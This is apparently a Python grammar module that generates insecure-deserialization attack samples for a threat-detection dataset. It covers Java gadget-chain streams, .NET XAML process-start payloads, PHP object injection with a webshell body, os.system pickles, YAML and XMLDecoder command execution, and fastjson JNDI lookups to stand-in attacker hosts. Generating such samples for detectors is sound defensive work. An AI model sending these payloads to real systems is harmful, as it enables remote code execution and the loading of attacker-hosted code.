"""Deserialization of untrusted data: Java, .NET, PHP, Python, Ruby, Node; YAML, XML and JSON type tricks."""

from threatclip.pairs.grammar.start import Start

STARTS = (
    Start("java_raw", weight=3, places=("binary",), family="Java"),
    Start("java_text", weight=3, places=("param", "cookie", "form", "header"), family="Java"),
    Start("dotnet_text", weight=2, places=("param", "form", "cookie"), family=".NET"),
    Start("dotnet_soap", weight=1, places=("xml",), family=".NET"),
    Start("viewstate", weight=2, places=("formbody",)),
    Start("php_object", weight=5, places=("param", "cookie", "form"), family="PHP"),
    Start("pickle_text", weight=2, places=("param", "cookie", "form"), family="Python"),
    Start("pickle_raw", weight=1, places=("binary",), family="Python"),
    Start("yaml", weight=2, places=("binary", "param")),
    Start("java_xml", weight=4, places=("xml",), family="Java"),
    Start("json_type", weight=5, places=("jsonbody",)),
    Start("ruby_text", weight=1, places=("param", "cookie", "binary"), family="Ruby"),
    Start("node_text", weight=1, places=("cookie", "param"), family="JavaScript"),
    Start("amf", weight=1, places=("binary",), family="Java"),
    Start("phar_file", weight=1, places=("part",)),
)

TEXT = r"""
java_raw := *3 «java_stream» ¦ «xac»«xed»«nul»«x05»«x77»«x04»«rand»«java_object»
  ¦ JRMI«nul»«x02»K«nul»«nul»«nul»«nul»«nul»«nul»«java_stream» ¦ «java_stream»«java_stream» ¦ c«nul»«x02»«java_stream»
  ¦ «nul»«nul»«x01»«java_stream» ¦ P«xac»«xed»«nul»«x05»«java_object»
java_stream := «xac»«xed»«nul»«x05»«java_object»
java_object := *4 sr«gadget|jstr»«junk»«fields»«java_more»«java_end»
  ¦ *2 sr«container|jstr»«junk»«fields»sr«gadget|jstr»«junk»«java_more»«java_end»
  ¦ ur«nul»«x13»[Ljava.lang.Object;«junk»xp«nul»«nul»«nul»«x02»sr«gadget|jstr»«junk»«java_more»
  ¦ s}«nul»«nul»«nul»«x01»«proxied|jstr»xr«nul»«x17»java.lang.reflect.Proxy«junk»«java_more»
  ¦ sr«nul»«x0c»java.net.URL«x96»%76«x1a»«xfc»«xe4»r«x03»«nul»«x07»I«nul»«x08»hashCode«java_text_field»
  ¦ t«any_cmd|jstr» ¦ sr«container|jstr»«junk»«java_text_field»x«java_end»
container := *3 java.util.HashMap ¦ *2 java.util.PriorityQueue ¦ *2 java.util.HashSet ¦ java.util.Hashtable
  ¦ java.util.LinkedHashSet ¦ javax.management.BadAttributeValueExpException
  ¦ sun.reflect.annotation.AnnotationInvocationHandler ¦ java.util.TreeMap ¦ java.util.concurrent.ConcurrentHashMap
  ¦ javax.swing.event.EventListenerList ¦ java.security.SignedObject ¦ java.rmi.server.RemoteObjectInvocationHandler
  ¦ java.util.ArrayList
gadget := *3 org.apache.commons.collections.functors.«=InvokerTransformer~ChainedTransformer~ConstantTransformer~InstantiateTransformer»
  ¦ org.apache.commons.collections4.«=comparators.TransformingComparator~functors.InvokerTransformer~functors.ChainedTransformer»
  ¦ *2 org.apache.commons.collections.«=map.LazyMap~keyvalue.TiedMapEntry~map.TransformedMap»
  ¦ *2 org.apache.commons.beanutils.BeanComparator ¦ *2 com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
  ¦ org.codehaus.groovy.runtime.«=ConvertedClosure~MethodClosure»
  ¦ org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider
  ¦ org.springframework.aop.framework.JdkDynamicAopProxy ¦ org.hibernate.engine.spi.TypedValue
  ¦ com.mchange.v2.c3p0.«=PoolBackedDataSource~impl.PoolBackedDataSourceBase» ¦ com.sun.rowset.JdbcRowSetImpl
  ¦ org.apache.commons.fileupload.disk.DiskFileItem ¦ bsh.XThis$Handler
  ¦ clojure.core.proxy$clojure.lang.APersistentMap$«hex8» ¦ org.mozilla.javascript.NativeError
  ¦ com.rometools.rome.feed.impl.ToStringBean ¦ com.tangosol.util.extractor.«=ReflectionExtractor~ChainedExtractor»
  ¦ com.vaadin.data.util.NestedMethodProperty ¦ org.python.core.PyObject ¦ net.sf.json.JSONObject
  ¦ org.jboss.weld.interceptor.proxy.InterceptorMethodHandler ¦ weblogic.jms.common.StreamMessageImpl
  ¦ sun.rmi.server.UnicastRef ¦ java.rmi.server.UnicastRemoteObject ¦ java.lang.ProcessBuilder
  ¦ @2023 com.fasterxml.jackson.databind.node.POJONode ¦ com.alibaba.fastjson.JSONArray
  ¦ org.apache.wicket.util.upload.DiskFileItem ¦ java.net.URL ¦ org.«coined».«coined».«coined|cap»
proxied := java.rmi.registry.Registry ¦ java.util.Map ¦ java.util.Comparator ¦ javax.xml.transform.Templates
  ¦ java.lang.Comparable
junk := «jb»«jb»«jb»«jb»«jb»«jb»«jb»«jb»«x02»«nul»
jb := «x80» ¦ «x9f» ¦ «xa3» ¦ «xb7» ¦ «xc4» ¦ «xd9» ¦ «xe2» ¦ «xf0» ¦ «xff» ¦ «x1b» ¦ «x3e» ¦ «x5c» ¦ «x61» ¦ «x7f»
  ¦ «x12» ¦ «x04» ¦ «nul»
fields := «nul»«small»L«field|jstr»t«field_type|jstr» ¦ F«nul»«nul»loadFactorI«nul»«x09»threshold
  ¦ «x02»I«nul»«x04»sizeL«nul»«x0a»comparatort«nul»«x16»Ljava/util/Comparator;
  ¦ [«field|jstr»t«nul»«x13»[Ljava/lang/Object; ¦ L«field|jstr»t«field_type|jstr»L«field|jstr»q~«nul»«x01»
field := iParamTypes ¦ iMethodName ¦ iArgs ¦ iTransformers ¦ comparator ¦ property ¦ map ¦ key ¦ val ¦ value
  ¦ memberValues ¦ factory ¦ _bytecodes ¦ _name ¦ _class ¦ size ¦ handler ¦ target ¦ method ¦ delegate ¦ iConstant
  ¦ outputProperties ¦ dataSource
field_type := Ljava/lang/String; ¦ Ljava/util/Comparator; ¦ Ljava/lang/Object; ¦ Ljava/util/Map; ¦ [Ljava/lang/Class;
  ¦ [Lorg/apache/commons/collections/Transformer; ¦ [B
java_text_field := Iport«xff»«xff»«xff»«xff»t«url_host|jstr»t«nul»«nul»q~«nul»«x05»t«scheme|jstr»pxt«url|jstr»
  ¦ t«nul»«x10»«rand20»t«url|jstr»x
url_host := «attacker» ¦ «rand20».«zone»
java_more := xpt«java_method|jstr»uq~«nul»«x18»vr«nul»«x11»java.lang.Runtimet«any_cmd|jstr»t«nul»«x04»exec
  ¦ xpt«nul»«x0a»getRuntimeuq~«nul»«x1b»t«nul»«x09»getMethodt«any_cmd|jstr»
  ¦ xpur«nul»«x02»[B«xac»«xf3»«x17»«xf8»«x06»«x08»T«xe0»xp«nul»«nul»«x06»«hex4»«xca»«xfe»«xba»«xbe»«nul»«nul»«nul»2«coined»
  ¦ xpt«any_cmd|jstr»xt«rand|jstr»x ¦ xpt«jndi_url|jstr» ¦ xpsr«nul»«x11»java.lang.Integer«junk»«small»
java_method := getMethod ¦ invoke ¦ exec ¦ newTransformer ¦ getOutputProperties ¦ lookup ¦ getDatabaseMetaData
  ¦ toString ¦ hashCode ¦ compareTo
java_end := x ¦ xp ¦ q~«nul»«x0a»x ¦ «nul»«nul»«x01»«x2c»x ¦ w«x04»«nul»«nul»«nul»«x03»x
jndi_url := *2 «=rmi~ldap~ldap»://«attacker»/«rand» ¦ «=rmi~ldap~iiop»://«attacker»:«port»/«rand»
  ¦ rmi://«attacker»:1099/«=Exploit~Object~a» ¦ ldap://«attacker»:1389/«rand»
java_text := *6 «java_stream|b64» ¦ «java_stream|b64url» ¦ «java_stream|hex» ¦ «java_stream|b64|url»
  ¦ *3 rO0AB«=XNyA~XVyA~XNyABdq~Xcm~XNyABFq~XN9A~XNyADJz~XNyABFqYXZhLnV0aWwuSGFzaE1hc~XQA~XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z»«b64s»«=~==~=»
  ¦ H4sIAAAAAAAA«b64s» ¦ aced0005«=7372~7572~7704~7400»«hex64»«hex40» ¦ «java_stream|urlall» ¦ $%C2%AC%C3%AD%00%05sr
  ¦ kO0AB«b64s» ¦ «gadget» ¦ JHNlcmlhbA«b40» ¦ «gadget|jstr|b64» ¦ «java_stream|hex|upper»
dotnet_type := *2 System.Windows.Data.ObjectDataProvider, PresentationFramework ¦ System.Diagnostics.Process, System
  ¦ *2 System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]
  ¦ System.Collections.Generic.ComparisonComparer`1[[System.String]]
  ¦ Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor
  ¦ System.DelegateSerializationHolder ¦ System.Windows.Markup.XamlReader, PresentationFramework
  ¦ System.Security.Principal.«=WindowsIdentity~WindowsPrincipal», mscorlib
  ¦ System.Configuration.Install.AssemblyInstaller ¦ System.Data.DataSet, System.Data
  ¦ System.Web.UI.ObjectStateFormatter ¦ System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector
  ¦ System.Drawing.Design.ToolboxItemContainer ¦ System.Activities.Presentation.WorkflowDesigner
  ¦ System.Management.Automation.PSObject ¦ System.Runtime.Remoting.ObjRef ¦ System.Collections.Hashtable
  ¦ System.Windows.ResourceDictionary, PresentationFramework ¦ System.IO.FileInfo
  ¦ System.CodeDom.Compiler.TempFileCollection ¦ System.Resources.ResXResourceSet, System.Windows.Forms
dotnet_raw := «nul»«x01»«nul»«nul»«nul»«xff»«xff»«xff»«xff»«x01»«nul»«nul»«nul»«nul»«nul»«nul»«nul»«x0c»«x02»«nul»«nul»«nul»«assembly|netstr»«x05»«x01»«nul»«nul»«nul»«dotnet_type|netstr»«nul»«x06»«x03»«nul»«nul»«nul»«dotnet_xaml|netstr»«x0b»
  ¦ «nul»«x01»«nul»«nul»«nul»«xff»«xff»«xff»«xff»«x01»«nul»«nul»«nul»«nul»«nul»«nul»«nul»«x04»«x01»«nul»«nul»«nul»«dotnet_type|netstr»«x06»«x05»«nul»«nul»«nul»/c «win_cmd|netstr»«x06»«x06»«nul»«nul»«nul»«x03»cmd«x0b»
assembly := System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089
  ¦ Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35
  ¦ PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35
  ¦ mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089
dotnet_xaml := <ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c «win_cmd|html»</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>
  ¦ <ObjectDataProvider MethodName="Start"><ObjectDataProvider.ObjectInstance><sd:Process><sd:Process.StartInfo><sd:ProcessStartInfo Arguments="/c «win_cmd|html»" FileName="cmd"/></sd:Process.StartInfo></sd:Process></ObjectDataProvider.ObjectInstance></ObjectDataProvider>
dotnet_text := *3 «dotnet_raw|b64» ¦ *2 AAEAAAD/////AQAAAAAAAAA«=MAgAAA~EAQAA~PAQAA~MAwAA»«b64s»«=~=~==» ¦ /wEy«b64s»
  ¦ /wEPDw«b64s» ¦ «dotnet_raw|b64|url»
  ¦ {"$type":"«dotnet_type»","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
  ¦ <«dotnet_type»> ¦ {"__type":"«dotnet_type»"} ¦ «dotnet_raw|hex»
dotnet_soap := <«$r:word»><item key="«ab»:Object" type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework],[System.Windows.Data.ObjectDataProvider, PresentationFramework]], System.Data.Services"><ExpandedWrapperOfXamlReaderObjectDataProvider><ProjectedProperty0><ObjectInstance xsi:type="XamlReader" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/><MethodName>Parse</MethodName><MethodParameters><anyType>«dotnet_xaml|html»</anyType></MethodParameters></ProjectedProperty0></ExpandedWrapperOfXamlReaderObjectDataProvider></item></«$r»>
  ¦ <SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:clr="http://schemas.microsoft.com/soap/encoding/clr/1.0"><SOAP-ENV:Body><a1:TextFormattingRunProperties id="ref-1"><ForegroundBrush id="ref-3">«dotnet_xaml|html»</ForegroundBrush></a1:TextFormattingRunProperties></SOAP-ENV:Body></SOAP-ENV:Envelope>
  ¦ <DataSet><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="«ab»" msdata:DataType="«dotnet_type»"/></xs:schema><diffgr:diffgram><«$r:word»>«dotnet_xaml|html»</«$r»></diffgr:diffgram></DataSet>
  ¦ «dotnet_xaml»
  ¦ <?xml version="1.0"?><profile><item key="«rand»" type="«dotnet_type»"><MethodName>«=Start~Parse~ReadAllText»</MethodName><MethodParameters><anyType>«win_cmd|html»</anyType></MethodParameters></item></profile>
viewstate := __VIEWSTATE=«dotnet_raw|b64|url»&__VIEWSTATEGENERATOR=«hex8|upper»
  ¦ __VIEWSTATE=%2FwEy«b64s|url»&__VIEWSTATEGENERATOR=«hex8|upper»&__EVENTTARGET=&__EVENTARGUMENT=
  ¦ __VSTATE=H4sIAAAAAAAEA«b64s|url»&__VIEWSTATE= ¦ javax.faces.ViewState=«java_stream|b64|url»&«word»=«rand»
  ¦ javax.faces.ViewState=rO0AB«b64s|url»
  ¦ __SCROLLPOSITIONX=0&__VIEWSTATE=%2FwEPDw«b64s|url»&«name»=«dotnet_raw|b64|url»
  ¦ «=data~token~state~payload~object»=«java_stream|b64|url» ¦ «=state~session~data»=«pickle_b|b64|url»
  ¦ «=data~args~options~import»=«php_obj|url» ¦ jato.pageSession=«java_stream|b64|url»
  ¦ «word»=1&«word»=«php_obj|b64|url»
php_object := *5 «php_obj» ¦ *2 «php_obj|b64» ¦ «php_obj|url» ¦ a:«small»:{i:0;«php_obj»} ¦ a:1:{«word|phps»«php_obj»}
  ¦ a:«small»:{«word|phps»i:«int»;«word|phps»«php_obj»} ¦ O:+«dd»:"«php_class»":0:{} ¦ «php_obj|hex»
  ¦ C:«dd»:"«php_class»":«int»:{«rand»} ¦ «word»|«php_obj» ¦ phar://«climb»uploads/«rand».«=jpg~gif~phar~png»/«word».txt
  ¦ «rand»";«php_obj»s:1:" ¦ }«rand»|«php_obj»
climb := ../ ¦ ../../ ¦ ./
php_obj := *3 «php_class|phpo»:«small»:{«php_prop»«php_prop»} ¦ *2 «php_class|phpo»:1:{«php_prop»}
  ¦ «php_class|phpo»:3:{«php_prop»«php_prop»«php_prop»} ¦ «php_class|phpo»:2:{«php_prop»«field_php|phps»«php_inner_obj»}
  ¦ «php_class|phpo»:1:{«field_php|phps»a:1:{i:0;«php_inner_obj»}} ¦ «php_class|phpo»:0:{}
  ¦ «php_class|phpo»:1:{«field_php|phps»a:2:{i:0;«php_inner_obj»i:1;«word|phps»}}
php_inner_obj := *2 «php_class|phpo»:1:{«php_prop»} ¦ «php_class|phpo»:2:{«php_prop»«php_prop»}
  ¦ a:2:{i:0;«php_fn|phps»i:1;«unix_info|phps»} ¦ R:«small»; ¦ N;
  ¦ «php_class|phpo»:2:{«field_php|phps»«php_fn|phps»«field_php|phps»«unix_info|phps»}
php_prop := *2 «field_php|phps»«php_fn|phps» ¦ *2 «field_php|phps»«unix_info|phps» ¦ «field_php|phps»«unix_file|phps»
  ¦ «field_php|phps»b:1; ¦ «field_php|phps»i:«int»; ¦ «field_php|phps»«rand|phps» ¦ «field_php|phps»N;
  ¦ «hidden|phps»«unix_info|phps» ¦ «field_php|phps»«php_code|phps» ¦ «field_php|phps»a:0:{}
  ¦ «field_php|phps»«shell_path|phps» ¦ «hidden|phps»O:8:"stdClass":0:{} ¦ «field_php|phps»«url|phps»
shell_path := «web_root»/«rand».php
hidden := «nul»*«nul»«field_php» ¦ «nul»«php_class»«nul»«field_php»
php_code := <?php «=system($_GET[0]);~phpinfo();~eval($_POST[1]);~echo 1;» ?> ¦ <?=`$_GET[«d»]`?> ¦ phpinfo();
  ¦ system('«unix_info»');
php_fn := *2 system ¦ exec ¦ passthru ¦ shell_exec ¦ assert ¦ phpinfo ¦ call_user_func ¦ file_put_contents ¦ eval
  ¦ show_source ¦ var_dump ¦ md5 ¦ unlink ¦ «word» ¦ phpversion
field_php := data ¦ file ¦ filename ¦ path ¦ cmd ¦ command ¦ callback ¦ function ¦ func ¦ args ¦ params ¦ handler
  ¦ handlers ¦ events ¦ event ¦ formatters ¦ default ¦ connection ¦ table ¦ cache ¦ cacheFile ¦ tmpFile ¦ template
  ¦ content ¦ code ¦ methods ¦ options ¦ logger ¦ processors ¦ buffer ¦ bufferSize ¦ stream ¦ config ¦ source ¦ adapter
  ¦ isAdmin ¦ disconnectHandlers ¦ fetch_style ¦ dispatcher ¦ parent ¦ _items ¦ closures ¦ «word»
php_class := *2 stdClass ¦ GuzzleHttp\Psr7\FnStream ¦ GuzzleHttp\Cookie\FileCookieJar ¦ GuzzleHttp\HandlerStack
  ¦ Monolog\Handler\«=SyslogUdpHandler~BufferHandler~FingersCrossedHandler~GroupHandler»
  ¦ Illuminate\Broadcasting\PendingBroadcast ¦ Illuminate\Foundation\Testing\PendingCommand
  ¦ Symfony\Component\Cache\Adapter\«=ProxyAdapter~TagAwareAdapter~ApcuAdapter»
  ¦ Symfony\Component\Process\Pipes\WindowsPipes ¦ Zend_Log ¦ Zend\«coined|cap»\«coined|cap»
  ¦ Laminas\Http\Response\Stream ¦ yii\db\BatchQueryResult ¦ yii\rest\CreateAction ¦ think\process\pipes\Windows
  ¦ think\model\Pivot ¦ Doctrine\Common\Cache\«coined|cap» ¦ Swift_KeyCache_DiskKeyCache ¦ Slim\Http\Response
  ¦ CakePHP\«coined|cap» ¦ phpseclib\Net\SSH1 ¦ Requests_Utility_FilteredIterator ¦ WP_«coined|cap» ¦ SplObjectStorage
  ¦ SoapClient ¦ SimpleXMLElement ¦ Smarty_Internal_Template ¦ «coined|cap» ¦ «coined|cap»\«coined|cap»
  ¦ «coined|cap»_«coined|cap» ¦ «word|cap»«word|cap» ¦ Example ¦ User ¦ Logger ¦ JDatabaseDriverMysqli ¦ vB_«coined|cap»
  ¦ Credis_Client ¦ TCPDF ¦ Faker\DefaultGenerator ¦ Opis\Closure\SerializableClosure ¦ League\Flysystem\«coined|cap»
pickle_b := *2 c«py_module»«nl»«py_attr»«nl»(S'«unix_cmd»'«nl»tR.
  ¦ *2 «x80»«x03»c«py_module»«nl»«py_attr»«nl»q«nul»X«x12»«nul»«nul»«nul»«unix_info»q«x01»«x85»q«x02»Rq«x03».
  ¦ «x80»«x04»«x95»#«nul»«nul»«nul»«nul»«nul»«nul»«nul»«x8c»«x05»«py_module»«x94»«x8c»«x06»«py_attr»«x94»«x93»«x94»«x8c»«x0d»«unix_info»«x94»«x85»«x94»R«x94».
  ¦ (cos«nl»system«nl»S'«unix_cmd»'«nl»o. ¦ (S'«unix_info»'«nl»ios«nl»system«nl».
  ¦ c__builtin__«nl»eval«nl»(V__import__('os').system('«unix_info»')«nl»tR.
  ¦ cbuiltins«nl»exec«nl»(Vimport os; os.system("«unix_cmd»")«nl»tR.
  ¦ (dp0«nl»S'«word»'«nl»cposix«nl»system«nl»(S'«unix_info»'«nl»tRs.
  ¦ csubprocess«nl»check_output«nl»((S'«unix_bin»'«nl»S'«unix_file»'«nl»ltR.
  ¦ «x80»«x02»cnt«nl»system«nl»U«x08»«win_info»«x85»R.
py_module := *3 os ¦ *3 posix ¦ subprocess ¦ builtins ¦ __builtin__ ¦ nt ¦ commands ¦ pty ¦ webbrowser ¦ platform
py_attr := *4 system ¦ popen ¦ Popen ¦ check_output ¦ eval ¦ exec ¦ getoutput ¦ call ¦ spawn ¦ execve
pickle_text := *3 «pickle_b|b64» ¦ «pickle_b|b64url» ¦ «pickle_b|url» ¦ gASV«b40»«b40»
  ¦ gAJ«=jcG9zaXgKc3lzdGVtCnEA~jb3MKc3lzdGVtCnEB~9cQ»«b40» ¦ Y«=29zCnN5c3RlbQ~3Bvc2l4CnN5c3RlbQ»«b40» ¦ «pickle_b»
  ¦ «pickle_b|hex» ¦ .eJ«b40»:«rand20»
pickle_raw := «pickle_b»
yaml := *2 !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«url»"]]]]
  ¦ !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "«jndi_url»", autoCommit: true}
  ¦ *2 !!python/object/apply:os.system ["«unix_cmd»"]
  ¦ !!python/object/apply:subprocess.«=Popen~check_output~call» [["«unix_bin»","-c","«unix_info»"]]
  ¦ !!python/object/new:os.system [«unix_info»]
  ¦ !!python/object/apply:builtins.eval ["__import__('os').system('«unix_info»')"]
  ¦ !!python/name:__builtin__.«=exec~eval»
  ¦ !!org.springframework.context.support.«=ClassPathXmlApplicationContext~FileSystemXmlApplicationContext» ["«url».xml"]
  ¦ !!com.mchange.v2.c3p0.JndiRefForwardingDataSource {jndiName: "«jndi_url»", loginTimeout: 0}
  ¦ --- !ruby/object:«ruby_class»«nl»  «word»: «rand»«nl»  «word»: "«unix_info»"
  ¦ ---«nl»- !ruby/object:Gem::Installer«nl»    i: x«nl»- !ruby/object:Gem::SpecFetcher«nl»    i: y«nl»- !ruby/object:Gem::Requirement«nl»  requirements:«nl»    !ruby/object:Gem::Package::TarReader«nl»    io: &1 !ruby/object:Net::BufferedIO
  ¦ !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection«nl»? '«rand»; «unix_info|rev»'«nl»: !ruby/object:OpenStruct
  ¦ !!js/function 'function(){require("child_process").exec("«unix_cmd»")}'
  ¦ "toString": !<tag:yaml.org,2002:js/function> "function (){«rand»}"
  ¦ !!java.lang.ProcessBuilder [["«unix_bin»","-c","«unix_info»"]] ¦ «word»: !!java.net.URL ["«url»"]
  ¦ «word»:«nl»  - !!python/object/apply:time.sleep ["«tens»"]
  ¦ !<!java.util.Arrays$ArrayList> [!!java.net.URL ["«url»"]]
  ¦ !!org.apache.xbean.propertyeditor.JndiConverter {asText: "«jndi_url»"}
  ¦ some_var: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«url».jar"]]]]
java_xml := *2 <java version="1.«=7.0_21~8.0_131~6.0~4.0»" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>«=/bin/sh~/bin/bash~cmd»</string></void><void index="1"><string>«=-c~/c»</string></void><void index="2"><string>«any_cmd|html»</string></void></array><void method="start"/></object></java>
  ¦ <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>«any_cmd|html»</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>
  ¦ <java><object class="java.io.PrintWriter"><string>«web_root»/«rand».jsp</string><void method="println"><string><![CDATA[«rand»]]></string></void><void method="close"/></object></java>
  ¦ *2 <sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«unix_bin»</string><string>«unix_file»</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
  ¦ *2 <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><next class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>«unix_cmd|html»</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>
  ¦ @2021 <java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>«rand»</type><value class='javax.naming.ldap.LdapName'>«jndi_url»</value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>
  ¦ <tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="sun.tracing.NullProvider"><active>true</active></handler></dynamic-proxy><string>«any_cmd|html»</string></entry></tree-map>
  ¦ <linked-hash-set><jdk.nashorn.internal.runtime.«coined|cap»/><com.sun.rowset.JdbcRowSetImpl><dataSource>«jndi_url»</dataSource></com.sun.rowset.JdbcRowSetImpl></linked-hash-set>
  ¦ <org.apache.commons.configuration.ConfigurationMap><configuration class="org.apache.commons.configuration.JNDIConfiguration"><prefix>«jndi_url»</prefix></configuration></org.apache.commons.configuration.ConfigurationMap>
  ¦ <methodCall><methodName>«word»</methodName><params><param><value><struct><member><name>«rand»</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">«java_stream|b64»</serializable></value></member></struct></value></param></params></methodCall>
  ¦ <object-stream><groovy.util.Expando><delegate class="groovy.util.Expando"/><owner class="java.lang.ProcessBuilder"><command><string>«unix_bin»</string></command></owner><method>start</method></groovy.util.Expando></object-stream>
  ¦ <javax.swing.ImageIcon serialization="custom"><«coined»/></javax.swing.ImageIcon>
  ¦ <java><void class="com.sun.rowset.JdbcRowSetImpl"><void property="dataSourceName"><string>«jndi_url»</string></void><void property="autoCommit"><boolean>true</boolean></void></void></java>
  ¦ <bean:«$b:coined»><void class="oracle.toplink.internal.sessions.UnitOfWorkChangeSet"><array class="byte" length="«int»"><void index="0"><byte>-84</byte></void><void index="1"><byte>-19</byte></void></array></void></bean:«$b»>
  ¦ @2023 <wddxPacket version='1.0'><header/><data><struct type='x«gadget»x'><var name='«=dataSourceName~metaData»'><string>«jndi_url»</string></var></struct></data></wddxPacket>
json_gadget := *3 com.sun.rowset.JdbcRowSetImpl ¦ com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
  ¦ org.apache.tomcat.dbcp.dbcp2.BasicDataSource ¦ org.apache.xbean.propertyeditor.JndiConverter
  ¦ com.mchange.v2.c3p0.JndiRefForwardingDataSource ¦ org.apache.shiro.jndi.JndiObjectFactory
  ¦ br.com.anteros.dbcp.AnterosDBCPConfig ¦ com.ibatis.sqlmap.engine.transaction.jta.JtaTransactionConfig
  ¦ org.apache.ibatis.datasource.jndi.JndiDataSourceFactory ¦ com.zaxxer.hikari.HikariConfig
  ¦ ch.qos.logback.core.db.JNDIConnectionSource ¦ org.apache.hadoop.shaded.com.zaxxer.hikari.HikariConfig
  ¦ org.springframework.context.support.ClassPathXmlApplicationContext ¦ java.net.InetSocketAddress
  ¦ java.net.«=Inet4Address~Inet6Address~URL» ¦ java.lang.AutoCloseable ¦ java.lang.Exception
  ¦ com.mysql.jdbc.JDBC4Connection ¦ oracle.jdbc.connector.OracleManagedConnectionFactory
  ¦ org.apache.commons.configuration.JNDIConfiguration ¦ org.«coined».«coined».«coined|cap»
  ¦ com.caucho.config.types.ResourceRef ¦ LLcom.sun.rowset.JdbcRowSetImpl;; ¦ Lcom.sun.rowset.JdbcRowSetImpl;
  ¦ [com.sun.rowset.JdbcRowSetImpl ¦ \u0063om.sun.rowset.JdbcRowSetImpl ¦ \x63om.sun.rowset.JdbcRowSetImpl
  ¦ java.lang.Class ¦ com.alibaba.fastjson.JSONObject
  ¦ net.sf.ehcache.transaction.manager.DefaultTransactionManagerLookup ¦ jdk.nashorn.api.scripting.«coined|cap»
json_type := *4 {"@type":"«json_gadget»","dataSourceName":"«jndi_url»","autoCommit":true}
  ¦ *2 {"«$a:ab»":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"«ab»":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"«jndi_url»","autoCommit":true}}
  ¦ {"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQA«b40»"],"_name":"«ab»","_tfactory":{},"_outputProperties":{}}
  ¦ {"@type":"java.net.InetAddress","val":"«attacker»"} ¦ {"@type":"java.net.Inet4Address","val":"«zone»"}
  ¦ {{"@type":"java.net.URL","val":"«url»"}:"«ab»"}
  ¦ *2 ["«json_gadget»",{"dataSourceName":"«jndi_url»","autoCommit":true}] ¦ ["«json_gadget»","«url».xml"]
  ¦ {"«word»":["«json_gadget»",{"jndiName":"«jndi_url»","loginTimeout":0}]}
  ¦ {"@class":"«json_gadget»","jndiNames":["«jndi_url»"],"asText":"«jndi_url»"}
  ¦ {"$type":"«dotnet_type»","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c «win_cmd|js»"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
  ¦ {"__type":"«dotnet_type»","«word|cap»":"«win_info|js»"}
  ¦ {"py/object":"__main__.«coined|cap»","py/reduce":[{"py/type":"os.system"},{"py/tuple":["«unix_cmd|js»"]}]}
  ¦ {"py/object/apply:os.system":["«unix_info|js»"]} ¦ {"json_class":"«ruby_class»","«word»":"«unix_info|js»"}
  ¦ {"^o":"«ruby_class»","«word»":"«rand»"} ¦ {"«word»":"«java_stream|b64»"} ¦ {"«word»":"«php_obj|js»"}
  ¦ {"«word»":"«pickle_b|b64»"}
  ¦ {"«name»":{"@type":"«json_gadget»","«=dataSourceName~jndiName~healthCheckRegistry~metricRegistry~jndiNames~driverClassName»":"«jndi_url»"}}
